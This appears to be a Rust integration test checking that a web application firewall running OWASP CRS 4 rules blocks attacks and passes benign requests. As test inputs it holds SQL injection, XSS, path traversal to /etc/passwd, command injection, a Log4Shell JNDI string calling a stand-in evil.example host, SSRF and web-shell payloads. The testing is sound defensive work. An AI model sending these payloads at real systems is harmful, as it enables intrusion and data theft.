//! Loads a CRS 4.x tree unmodified, with its setup file, from the directory in
//! `RAMPART_CRS4_DIR` (a CRS release: `crs-setup.conf[.example]` and
//! `rules/`), and runs attacks and benign traffic through it. CRS 4 is in no
//! package registry this project installs from, so the test is skipped, with a
//! message, when the variable is unset:
//!
//! ```text
//! RAMPART_CRS4_DIR=/path/to/coreruleset-4.x cargo test -p rampart-waf --test crs4 -- --nocapture
//! ```
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::net::{IpAddr, Ipv4Addr};
use std::path::PathBuf;
use std::sync::Arc;

use rampart_waf::{Ruleset, Transaction, WafConfig};

fn crs4() -> Option<Arc<Ruleset>> {
    crs4_at(None)
}

fn crs4_at(paranoia_level: Option<u8>) -> Option<Arc<Ruleset>> {
    let Some(dir) = std::env::var_os("RAMPART_CRS4_DIR").map(PathBuf::from) else {
        println!("skipping: RAMPART_CRS4_DIR is not set (point it at a CRS 4.x release directory)");
        return None;
    };
    let setup = ["crs-setup.conf", "crs-setup.conf.example"]
        .iter()
        .map(|n| dir.join(n))
        .find(|p| p.is_file())
        .unwrap_or_else(|| panic!("{}: no crs-setup.conf[.example]", dir.display()));
    let config: WafConfig = serde_json::from_value(serde_json::json!({
        "rules": [setup, dir.join("rules").join("*.conf")],
        "response_body_limit": 524288,
        "paranoia_level": paranoia_level,
    }))
    .unwrap();
    let waf = config
        .build()
        .unwrap_or_else(|e| panic!("CRS 4 failed to load: {e}"));
    Some(waf.ruleset)
}

fn run(
    rs: &Arc<Ruleset>,
    method: &str,
    uri: &str,
    extra: &[(&str, &str)],
    body: &[u8],
) -> Transaction {
    let mut tx = Transaction::new(rs.clone());
    tx.set_connection(IpAddr::V4(Ipv4Addr::new(192, 0, 2, 10)), 40000, "crs4-test");
    tx.set_request_line(method, uri, "HTTP/1.1");
    let base = [
        ("Host", "api.example.com"),
        (
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
        ),
        ("Accept", "application/json"),
    ];
    for (n, v) in base.iter().chain(extra) {
        tx.add_request_header(n, v.as_bytes());
    }
    tx.process_request_headers();
    tx.append_request_body(body);
    tx.process_request_body();
    tx
}

#[test]
fn crs4_loads_blocks_attacks_and_passes_benign_traffic() {
    let Some(rs) = crs4() else { return };
    println!(
        "CRS 4: {} rules, {} regex fallbacks, signature {:?}",
        rs.rule_count(),
        rs.regex_fallbacks(),
        rs.settings().component_signatures
    );
    assert!(rs.rule_count() > 100);

    let benign = run(&rs, "GET", "/users?id=42&sort=name", &[], b"");
    assert!(
        benign.interruption().is_none(),
        "benign: {:?}",
        benign.matched_rule_ids()
    );

    let json = run(
        &rs,
        "POST",
        "/users",
        &[("Content-Type", "application/json")],
        br#"{"name":"Alice O'Brien","email":"alice@example.com","age":31}"#,
    );
    assert!(
        json.interruption().is_none(),
        "json: {:?}",
        json.matched_rule_ids()
    );

    let mut sqli = run(&rs, "GET", "/users?id=1%27%20OR%20%271%27%3D%271", &[], b"");
    assert!(
        sqli.interruption().is_some(),
        "sqli passed: {:?}",
        sqli.matched_rule_ids()
    );
    assert!(
        sqli.matched_rule_ids()
            .iter()
            .any(|id| (942000..943000).contains(id))
    );

    // Phase 5 (980170 in v4): the correlation message spans continued lines.
    sqli.process_logging();
    let report = sqli
        .matches()
        .iter()
        .find(|m| m.id == 980170)
        .and_then(|m| m.msg.clone())
        .unwrap_or_default();
    assert!(report.contains("(Inbound Scores: blocking="), "{report}");
    assert!(report.contains("SQLI="), "{report}");
    assert!(!report.contains('\\'), "{report}");

    let xss = run(
        &rs,
        "GET",
        "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        &[],
        b"",
    );
    assert!(
        xss.interruption().is_some(),
        "xss passed: {:?}",
        xss.matched_rule_ids()
    );
    assert!(
        xss.matched_rule_ids()
            .iter()
            .any(|id| (941000..942000).contains(id))
    );

    // XSS variants: an entity-split javascript: scheme and an embed tag.
    for uri in [
        "/go?next=jav%26%23x09%3Bascript%3Aalert(1)",
        "/page?x=%3Cembed%20src%3D%2F%2Fevil.example%2Fx.swf%3E",
    ] {
        let x = run(&rs, "GET", uri, &[], b"");
        assert!(
            x.interruption().is_some(),
            "{uri} passed: {:?}",
            x.matched_rule_ids()
        );
        assert!(
            x.matched_rule_ids()
                .iter()
                .any(|id| (941000..942000).contains(id))
        );
    }

    // Multipart (922): a normal upload passes; a deprecated
    // Content-Transfer-Encoding part header is refused.
    let part = |extra: &str| {
        format!(
            "--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n\
             Content-Type: text/plain\r\n{extra}\r\nhello\r\n--XyZ--\r\n"
        )
    };
    let mp = [("Content-Type", "multipart/form-data; boundary=XyZ")];
    let upload = run(&rs, "POST", "/upload", &mp, part("").as_bytes());
    assert!(
        upload.interruption().is_none(),
        "upload: {:?}",
        upload.matched_rule_ids()
    );
    let cte = run(
        &rs,
        "POST",
        "/upload",
        &mp,
        part("Content-Transfer-Encoding: base64\r\n").as_bytes(),
    );
    assert!(
        cte.interruption().is_some(),
        "922120 passed: {:?}",
        cte.matched_rule_ids()
    );
    assert!(cte.matched_rule_ids().contains(&922120));

    // Protocol enforcement (920): a restricted header and a restricted
    // extension.
    let hdr = run(&rs, "GET", "/a", &[("Content-Encoding", "gzip")], b"");
    assert!(
        hdr.matched_rule_ids().contains(&920450),
        "{:?}",
        hdr.matched_rule_ids()
    );
    let ext = run(&rs, "GET", "/backup.sql", &[], b"");
    assert!(
        ext.matched_rule_ids().contains(&920440),
        "{:?}",
        ext.matched_rule_ids()
    );

    // Path traversal and OS file access (930).
    let lfi = run(&rs, "GET", "/download?file=../../etc/passwd", &[], b"");
    assert!(
        lfi.interruption().is_some(),
        "lfi passed: {:?}",
        lfi.matched_rule_ids()
    );
    assert!(
        lfi.matched_rule_ids()
            .iter()
            .any(|id| (930000..931000).contains(id))
    );

    // Method policy (911100): only GET HEAD POST OPTIONS by default.
    let put = run(&rs, "PUT", "/users/1", &[("Content-Length", "0")], b"");
    assert!(
        put.matched_rule_ids().contains(&911100),
        "{:?}",
        put.matched_rule_ids()
    );

    // Session fixation (943110/943120): macros in operator arguments
    // (%{request_headers.host}) and in setvar values (%{matched_var_name}).
    let off_domain = run(
        &rs,
        "GET",
        "/login?jsessionid=abc",
        &[("Referer", "https://evil.example.net/x")],
        b"",
    );
    assert!(
        off_domain.matched_rule_ids().contains(&943110),
        "{:?}",
        off_domain.matched_rule_ids()
    );
    let same_site = run(
        &rs,
        "GET",
        "/login?jsessionid=abc",
        &[("Referer", "https://api.example.com/x")],
        b"",
    );
    assert!(
        !same_site.matched_rule_ids().contains(&943110),
        "{:?}",
        same_site.matched_rule_ids()
    );
    assert_eq!(
        off_domain.tx("943110_matched_var_name"),
        Some(&b"ARGS_NAMES:jsessionid"[..])
    );

    // Prototype pollution in a JSON body (934130 on ARGS_NAMES json.__proto__.*).
    let proto = run(
        &rs,
        "POST",
        "/users",
        &[("Content-Type", "application/json")],
        br#"{"name":"a","__proto__":{"admin":true}}"#,
    );
    assert!(
        proto.interruption().is_some(),
        "proto passed: {:?}",
        proto.matched_rule_ids()
    );
    assert!(
        proto
            .matched_rule_ids()
            .iter()
            .any(|id| (934000..935000).contains(id))
    );

    // PHP injection (933): a stream wrapper and a high-risk function name.
    for uri in [
        "/view?page=php://filter/resource=index.php",
        "/view?code=base64_decode(%22aWQ%22)",
    ] {
        let php = run(&rs, "GET", uri, &[], b"");
        assert!(
            php.interruption().is_some(),
            "{uri} passed: {:?}",
            php.matched_rule_ids()
        );
        assert!(
            php.matched_rule_ids()
                .iter()
                .any(|id| (933000..934000).contains(id))
        );
    }

    // MongoDB operator injection in a parameter name (942290).
    let nosql = run(&rs, "GET", "/users?name%5B%24ne%5D=x", &[], b"");
    assert!(
        nosql.matched_rule_ids().contains(&942290),
        "{:?}",
        nosql.matched_rule_ids()
    );

    // Unix command injection (932).
    let rce = run(&rs, "GET", "/ping?host=127.0.0.1%3Bls%20-la", &[], b"");
    assert!(
        rce.interruption().is_some(),
        "rce passed: {:?}",
        rce.matched_rule_ids()
    );
    assert!(
        rce.matched_rule_ids()
            .iter()
            .any(|id| (932000..933000).contains(id))
    );

    // Log4Shell in a header (944150).
    let jndi = run(
        &rs,
        "GET",
        "/a",
        &[("X-Api-Version", "${jndi:ldap://evil.example/a}")],
        b"",
    );
    assert!(
        jndi.interruption().is_some(),
        "jndi passed: {:?}",
        jndi.matched_rule_ids()
    );
    assert!(
        jndi.matched_rule_ids().contains(&944150),
        "{:?}",
        jndi.matched_rule_ids()
    );

    // A regex selector with escapes (921250, REQUEST_COOKIES:/\x22?\x24Version/).
    let v1 = run(&rs, "GET", "/a", &[("Cookie", "$Version=1; sid=abc")], b"");
    assert!(
        v1.matched_rule_ids().contains(&921250),
        "{:?}",
        v1.matched_rule_ids()
    );

    // Response side: a SQL error message leaking from the upstream.
    let mut leak = run(&rs, "GET", "/report", &[], b"");
    leak.set_response_status(200, "HTTP/1.1");
    leak.add_response_header("Content-Type", b"text/html");
    leak.process_response_headers();
    leak.append_response_body(
        b"<b>Warning</b>: mysql_fetch_array() expects parameter 1 to be resource. You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version",
    );
    leak.process_response_body();
    println!("leak matched: {:?}", leak.matched_rule_ids());
    assert!(
        leak.matched_rule_ids()
            .iter()
            .any(|id| (951000..952000).contains(id))
    );
    assert!(leak.interruption().is_some());

    // More response-side rules: PHP source (953120) and a web shell page (955110).
    for (body, family) in [
        (
            &b"<?php echo file_get_contents('/etc/passwd'); ?>"[..],
            953000..954000,
        ),
        (b"<html><title>r57 shell</title></html>", 955000..956000),
    ] {
        let mut tx = run(&rs, "GET", "/page", &[], b"");
        tx.set_response_status(200, "HTTP/1.1");
        tx.add_response_header("Content-Type", b"text/html");
        tx.process_response_headers();
        tx.append_response_body(body);
        tx.process_response_body();
        assert!(
            tx.matched_rule_ids().iter().any(|id| family.contains(id)),
            "{:?}",
            tx.matched_rule_ids()
        );
        assert!(tx.interruption().is_some());
    }
}

#[test]
fn crs4_paranoia_level_2_from_the_config() {
    let Some(rs) = crs4_at(Some(2)) else { return };
    let benign = run(&rs, "GET", "/users?id=42&sort=name", &[], b"");
    assert!(
        benign.interruption().is_none(),
        "benign: {:?}",
        benign.matched_rule_ids()
    );
    assert_eq!(benign.tx("blocking_paranoia_level"), Some(&b"2"[..]));
    // 931130 (PL2): an off-domain URL in a parameter, through a setvar whose
    // name holds %{MATCHED_VAR_NAME} and a TX regex selector.
    let rfi = run(
        &rs,
        "GET",
        "/fetch?url=https://evil.example.net/x",
        &[],
        b"",
    );
    assert!(
        rfi.matched_rule_ids().contains(&931130),
        "{:?}",
        rfi.matched_rule_ids()
    );
    // 942130 (PL2): a tautology, through a chain comparing two captures
    // (`TX:1 "@streq %{TX.2}"`); an honest comparison of two names passes it.
    let taut = run(&rs, "GET", "/items?q=x%27%20or%20abc%3Dabc", &[], b"");
    assert!(
        taut.matched_rule_ids().contains(&942130),
        "{:?}",
        taut.matched_rule_ids()
    );
    let plain = run(&rs, "GET", "/items?filter=color%3Dred", &[], b"");
    assert!(
        !plain.matched_rule_ids().contains(&942130),
        "{:?}",
        plain.matched_rule_ids()
    );

    // 934120 (PL2): SSRF to a dotless decimal address.
    let ssrf = run(&rs, "GET", "/fetch?url=http://2852039166/latest", &[], b"");
    assert!(
        ssrf.matched_rule_ids().contains(&934120),
        "{:?}",
        ssrf.matched_rule_ids()
    );
    let local = run(&rs, "GET", "/fetch?url=https://api.example.com/x", &[], b"");
    assert!(
        !local.matched_rule_ids().contains(&931130),
        "{:?}",
        local.matched_rule_ids()
    );
}
